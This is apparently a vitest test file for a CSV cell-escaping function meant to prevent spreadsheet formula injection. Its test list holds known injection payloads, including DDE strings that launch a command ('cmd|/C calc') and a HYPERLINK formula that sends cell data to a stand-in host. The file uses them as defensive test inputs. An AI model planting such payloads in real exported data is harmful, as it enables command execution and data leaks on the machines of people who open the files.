import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell } from './csvCell.ts';

/** What spreadsheets are known to run: the OWASP list, and disguises of it. */
const ATTACKS = [
  '=1+1',
  '+1+cmd|/C calc!A0',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd|x',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1+x',
  '＠A1',
  '"=1+1',
  '=HYPERLINK("http://x.example?"&A1,"click")',
  '=1+1";=1+1',
];

const read = (line: string): string => parse(line)[0]?.[0] ?? '';
const runs = (text: string) => /^\s*[=+\-@＝＋－＠]/u.test(text) && !/^-?\d+(\.\d+)?$/.test(text);

describe('a cell of CSV', () => {
  it('keeps numbers, empties nulls and quotes what needs it', () => {
    expect([null, -5, 1.5, '-12.50', 'Åsa', 'a,b', 'say "x"'].map(csvCell)).toEqual([
      '',
      '-5',
      '1.5',
      '-12.50',
      'Åsa',
      '"a,b"',
      '"say ""x"""',
    ]);
  });

  it.each(ATTACKS)('is no formula: %j', (attack) => {
    expect(runs(read(`${csvCell(attack)}\r\n`))).toBe(false);
  });

  it('is never a formula and, but for the apostrophe, what was given', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, unit: 'grapheme' }), (text) => {
        const cell = read(`${csvCell(text)}\r\n`);
        expect(runs(cell)).toBe(false);
        expect([text, `'${text}`]).toContain(cell);
      }),
      { numRuns: 2_000, seed: 20261122 },
    );
  });

  it('stays one cell in a spreadsheet that splits at semicolons or tabs', () => {
    for (const text of ['a;=1+1', 'a\t=1+1']) expect(csvCell(text)).toBe(`"${text}"`);
  });
});
